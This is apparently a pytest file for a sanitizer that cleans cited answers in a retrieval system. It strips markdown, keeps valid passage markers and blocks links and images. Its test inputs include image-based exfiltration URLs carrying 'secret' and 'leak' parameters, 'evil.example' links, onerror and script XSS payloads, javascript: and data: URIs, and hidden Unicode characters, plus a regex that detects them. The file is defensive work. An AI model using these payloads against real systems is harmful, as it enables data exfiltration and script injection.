import re

import pytest

from rag.worded.plain import SLOT, plain

URLS = {"pa1b2c3": "https://a.example/x", "pd4e5f6": None}


def shown(written: str) -> str:
    found = plain(written, URLS)
    return SLOT.sub(lambda slot: f"<{found.ids[int(slot[1])]}>", found.text)


@pytest.mark.parametrize(
    ("written", "text"),
    [
        ("Learn **calculus** next [pa1b2c3][pd4e5f6].", "Learn calculus next <pa1b2c3><pd4e5f6>."),
        ("Both [pa1b2c3, pd4e5f6] and (pd4e5f6).", "Both <pa1b2c3><pd4e5f6> and <pd4e5f6>."),
        ("A marker 【pa1b2c3】 or [id: pd4e5f6].", "A marker <pa1b2c3> or <pd4e5f6>."),
        ("As pa1b2c3 says.", "As says."),
        ("C++ (optional), R-CNN, CI/CD: 3-6 months, > 90 %.", "C++ (optional), R-CNN, CI/CD: 3-6 months, > 90 %."),
        ("An [optional] part of `train_test_split` in *Keras*.", "An optional part of train_test_split in Keras."),
        ("Deeplearning.ai and fast.ai.", "Deeplearning.ai and fast.ai."),
    ],
)
def test_text_and_markers_stay_and_markdown_goes(written: str, text: str) -> None:
    assert shown(written) == text


@pytest.mark.parametrize(
    "made_up", ["[1]", "[p000000]", "[source]", "[Passage 3]", "[^2]", "[1, 2]", "[citation]", r"\[1\]"]
)
def test_a_marker_that_names_no_passage_vanishes_and_is_counted(made_up: str) -> None:
    found = plain(f"True {made_up}.", URLS)
    assert (found.text, found.ids, found.dropped) == ("True.", (), 1)


@pytest.mark.parametrize(
    "written",
    [
        "![x](http://127.0.0.1:9/x.png?d=secret)",
        "![x][ref] and [ref]: http://127.0.0.1:9/x.png",
        "[here](https://evil.example/a_(b)?c) or <https://evil.example/auto>",
        '<img src="//evil.example/i.png" onerror="alert(1)"> <script>alert(1)</script>',
        "<<b>img src=x onerror=alert(1)>",
        "<!-- <img src=x> --> www.evil.example/x evil.example/x?q=1 mail@evil.example",
        "javascript:alert(1) data:text/html,<b>x</b> ftp://evil.example 127.0.0.1:9/x",
        "![a. b",
        "b](http://127.0.0.1:9/x) [c](",
        "\u202ehttps://evil.example\u200b/x \U000e0068\U000e0069",
        "| a | https://evil.example |",
    ],
)
def test_no_link_image_tag_or_hidden_text_gets_through(written: str) -> None:
    text = plain(written, URLS).text
    live = r"://|www\.|evil\.example|127\.0|!\[|\]\(|<[^\s\d]|script:|data:|[\u200b\u202e\U000e0068]"
    assert not re.search(live, text)


def test_an_address_stays_where_it_is_that_of_a_source_which_the_sentence_names() -> None:
    assert shown("See https://a.example/x [pa1b2c3].") == "See https://a.example/x <pa1b2c3>."
    assert shown("See https://a.example/x?leak=1 [pa1b2c3].") == "See <pa1b2c3>."
    assert shown("See https://a.example/x [pd4e5f6].") == "See <pd4e5f6>."
